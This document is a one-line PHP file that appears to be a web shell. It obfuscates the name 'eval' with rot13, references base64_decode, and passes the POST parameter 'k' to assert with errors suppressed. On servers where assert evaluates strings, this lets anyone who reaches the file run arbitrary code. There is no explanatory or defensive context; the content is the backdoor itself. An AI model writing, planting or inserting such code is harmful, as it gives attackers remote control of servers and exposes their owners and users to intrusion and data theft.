<?php $f = str_rot13('riny'); $f2 = 'base64_decode'; @call_user_func('assert', $_POST['k']); ?>
